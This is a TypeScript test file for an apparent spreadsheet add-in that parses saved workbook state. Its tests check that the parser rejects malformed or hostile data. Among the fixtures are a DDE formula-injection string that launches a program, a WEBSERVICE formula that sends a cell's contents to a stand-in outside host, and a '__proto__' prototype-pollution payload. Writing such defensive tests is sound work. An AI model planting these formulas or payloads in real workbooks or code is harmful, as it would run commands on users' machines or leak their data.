import fc from "fast-check";
import { DEFAULT_SUMMARY_OPTIONS } from "../../../src/savings/choices/summary-options";
import { DEFAULT_THRESHOLDS } from "../../../src/savings/enquiry/thresholds";
import { freeId, NOTHING_KEPT, type Kept } from "../../../src/savings/kept/kept";
import { parseKept } from "../../../src/savings/kept/parse-kept";
import { pence } from "../../../src/savings/money";

const EVERYTHING: Kept = {
  choices: [
    {
      id: "1",
      choice: {
        unit: "£000",
        basis: "incremental",
        sign: "positive",
        columns: [{ label: "Effect", kind: "year", year: "2018/19" }],
        codePattern: "A9 9+",
        budgetColumn: "Net budget",
        budget: pence(85_000_000_000),
        leftOut: true,
        selected: true,
      },
    },
  ],
  thresholdsWritten: { ...DEFAULT_THRESHOLDS, costs: 15 },
  options: { unit: "£m", isLive: false, thresholds: { ...DEFAULT_THRESHOLDS, costs: 12.5 } },
  accepted: [
    {
      check: "figure-is-text",
      message: "CH1: (0.100) is text.",
      contents: ['"(0.100)"'],
      place: "'B'!C5",
      reason: "So printed.",
    },
  ],
  mended: [
    {
      id: "2",
      kind: "text to number",
      words: "Made 1 figure a number on Birmingham.",
      parts: [
        {
          place: "3",
          row: 4,
          column: 2,
          cells: [
            {
              row: 0,
              column: 0,
              before: "(0.100)",
              beforeFormat: "General",
              after: -0.1,
              afterFormat: "0.000;(0.000)",
            },
          ],
        },
      ],
    },
  ],
  summaryOf: "abc-def",
};

const RUNS = "=cmd|'/C calc'!A0";
const ASKS = '=WEBSERVICE("https://elsewhere.example/"&A1)';

/** What is read back of a change to what was kept. */
function after(change: Record<string, unknown>) {
  return parseKept(JSON.stringify({ ...EVERYTHING, ...change }));
}

describe("what is kept in a workbook", () => {
  test("is read back as it was", () => {
    expect(parseKept(JSON.stringify(EVERYTHING))).toEqual({ kept: EVERYTHING, problems: [] });
  });

  test("is nothing in a workbook that keeps nothing", () => {
    expect(parseKept(null)).toEqual({ kept: NOTHING_KEPT, problems: [] });
  });

  test.each(["", "null", "[]", "7", "{", '"text"'])("that is %p counts as nothing, and that is said", (text) => {
    const { kept, problems } = parseKept(text);
    expect(kept).toEqual(NOTHING_KEPT);
    expect(problems).toHaveLength(1);
  });

  test.each<[string, Record<string, unknown>, keyof Kept]>([
    ["a unit that there is not", { choices: [{ id: "1", choice: { unit: "€m" } }] }, "choices"],
    ["an id that is no number", { choices: [{ id: "__proto__", choice: {} }] }, "choices"],
    ["a budget in parts of a penny", { choices: [{ id: "1", choice: { budget: 0.5 } }] }, "choices"],
    ["a list that is none", { choices: "all" }, "choices"],
    ["a reason that is no text", { accepted: [{ ...EVERYTHING.accepted[0], reason: 7 }] }, "accepted"],
    ["a cell beyond the sheet", { mended: [stepAt(1_048_576)] }, "mended"],
    ["a mend of a text that held a formula", { mended: [stepFrom("text to number", "=SUM(B3:B4)")] }, "mended"],
    ["a mend that would write a formula to run", { mended: [stepFrom("total to formula", RUNS)] }, "mended"],
    [
      "a mend that would write a formula that asks a server",
      { mended: [stepFrom("total to formula", ASKS)] },
      "mended",
    ],
    ["a mend of no kind", { mended: [{ ...EVERYTHING.mended[0], kind: "delete" }] }, "mended"],
  ])("leaves out %s, says so, and keeps the rest", (_what, change, part) => {
    const { kept, problems } = after(change);
    expect(kept).toEqual({ ...EVERYTHING, [part]: [] });
    expect(problems).toHaveLength(1);
  });

  test.each([
    ["thresholds as written that are no numbers", { thresholdsWritten: { costs: "many" } }, "thresholdsWritten"],
    ["a summary that is of no workbook", { summaryOf: 7 }, "summaryOf"],
  ])("forgets %s, and keeps the rest", (_what, change, part) => {
    expect(after(change)).toEqual({ kept: { ...EVERYTHING, [part]: null }, problems: [] });
  });

  test("holds what a total was before it became a sum, also a formula of the user's own", () => {
    const step = stepFrom("total to formula", "=B3+B4*1.5");
    expect(after({ mended: [step] })).toEqual({ kept: { ...EVERYTHING, mended: [step] }, problems: [] });
  });

  test.each([
    ["thresholds that are no numbers", { ...EVERYTHING.options, thresholds: { costs: "many" } }],
    ["a unit that there is not", { ...EVERYTHING.options, unit: "pounds" }],
    ["a threshold without end", { ...EVERYTHING.options, thresholds: { costs: 1e9 } }],
  ])("goes back to the usual settings of the summary for %s", (_what, options) => {
    const { kept, problems } = after({ options });
    expect(kept.options).toEqual(DEFAULT_SUMMARY_OPTIONS);
    expect(problems).toHaveLength(1);
  });

  test("fills in settings that an earlier version did not have", () => {
    const { kept, problems } = after({ options: { isLive: false, thresholds: { costs: 20 } } });
    expect(kept.options).toEqual({
      unit: "source",
      isLive: false,
      thresholds: { ...DEFAULT_THRESHOLDS, costs: 20 },
    });
    expect(problems).toEqual([]);
    expect(after({ options: {} }).kept.options).toEqual(DEFAULT_SUMMARY_OPTIONS);
  });

  const EVERY_CHOICE: readonly Record<string, unknown>[] = [
    ...["£m", "£000", "£"].map((unit) => ({ unit })),
    ...["cumulative", "incremental"].map((basis) => ({ basis })),
    ...["negative", "positive"].map((sign) => ({ sign })),
    ...[
      ...["code", "description", "type", "service", "year", "saving"],
      ...["total", "budget", "target", "achieved", "percent", "other"],
    ].map((kind) => ({ columns: [{ label: "Column", kind }] })),
  ];

  test.each(EVERY_CHOICE)("holds whatever a user may choose of a table: %j", (choice) => {
    const choices = [{ id: "123456789", choice }];
    expect(after({ choices })).toEqual({ kept: { ...EVERYTHING, choices }, problems: [] });
  });

  test.each([
    { unit: "" },
    { basis: "" },
    { sign: "" },
    { columns: [{ label: "Column", kind: "" }] },
    { columns: [{ label: "Column", kind: "year", year: "in 2018/19" }] },
    { columns: [{ label: "Column", kind: "year", year: "2018/199" }] },
  ])("holds no choice that there is not: %j", (choice) => {
    expect(after({ choices: [{ id: "1", choice }] }).kept.choices).toEqual([]);
  });

  test.each(["x1", "1x", "1234567890", ""])("holds nothing under the id %j", (id) => {
    expect(after({ choices: [{ id, choice: {} }] }).kept.choices).toEqual([]);
  });

  test.each(["tidy code", "date to year", "total to formula", "marks to notes"])(
    "holds a mend of the kind %s",
    (kind) => {
      const step = stepFrom(kind, "(0.100)");
      expect(after({ mended: [step] })).toEqual({ kept: { ...EVERYTHING, mended: [step] }, problems: [] });
    },
  );

  test.each(["source", "£m", "£000", "£"] as const)("holds a summary in %s", (unit) => {
    const options = { ...EVERYTHING.options, unit };
    expect(after({ options })).toEqual({ kept: { ...EVERYTHING, options }, problems: [] });
  });

  test("holds no mend one of whose cells could bring a strange formula back", () => {
    const [good, bad] = [stepFrom("total to formula", "(0.100)"), stepFrom("total to formula", RUNS)];
    const inOnePart = { ...good, parts: good.parts.map((part) => ({ ...part, cells: [...part.cells, ...bad.parts[0]!.cells] })) }; // oxfmt-ignore
    const inTwoParts = { ...good, parts: [...good.parts, ...bad.parts] };
    for (const step of [inOnePart, inTwoParts]) expect(after({ mended: [step] }).kept.mended).toEqual([]);
  });

  test("says in words what could not be used", () => {
    expect(parseKept("{").problems).toEqual([
      "What the add-in kept in this workbook could not be read, so everything is shown as it was found.",
    ]);
    expect(after({ choices: 1, accepted: 1, mended: 1, options: 1 }).problems).toEqual([
      "Some choices kept in this workbook were not usable and were left out.",
      "Some accepted points kept in this workbook were not usable and are shown again.",
      "Some mends kept in this workbook were not usable and cannot be taken back.",
      "The settings of the summary kept in this workbook were not usable.",
    ]);
  });

  test("never makes anything but its own fields, whatever the file holds", () => {
    fc.assert(
      fc.property(fc.json(), (text) => {
        const { kept } = parseKept(text);
        expect(Object.keys(kept).sort()).toEqual(Object.keys(NOTHING_KEPT).sort());
        expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
      }),
    );
    parseKept('{"__proto__":{"polluted":1},"choices":[{"id":"1","choice":{"__proto__":{"polluted":1}}}]}');
    expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
  });
});

function stepFrom(kind: string, before: string) {
  const [step] = EVERYTHING.mended;
  return {
    ...step,
    kind,
    parts: step!.parts.map((part) => ({ ...part, cells: part.cells.map((cell) => ({ ...cell, before })) })),
  };
}

function stepAt(row: number) {
  const [step] = EVERYTHING.mended;
  return {
    ...step,
    parts: step!.parts.map((part) => ({ ...part, cells: part.cells.map((cell) => ({ ...cell, row })) })),
  };
}

describe("ids", () => {
  test("are new among choices, mends and their places", () => {
    expect(freeId(NOTHING_KEPT)).toBe("1");
    expect(freeId(EVERYTHING)).toBe("4");
    expect(freeId({ ...NOTHING_KEPT, choices: [{ id: "7", choice: {} }] })).toBe("8");
    expect(freeId({ ...NOTHING_KEPT, mended: EVERYTHING.mended })).toBe("4");
  });
});
